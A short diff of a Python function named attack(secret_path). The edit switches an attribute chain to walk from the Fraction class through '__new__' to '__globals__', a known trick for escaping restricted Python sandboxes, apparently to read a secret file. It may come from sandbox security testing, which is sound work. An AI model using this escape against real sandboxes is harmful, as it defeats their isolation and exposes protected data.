@@ -3,7 +3,7 @@ from functools import partial, reduce
 
 
 def attack(secret_path):
-    steps = ("__init__", "__globals__")
+    steps = ("__new__", "__globals__")
     from fractions import Fraction
 
     found = reduce(lambda value, name: getattr(value, name), steps, partial(Fraction).func)
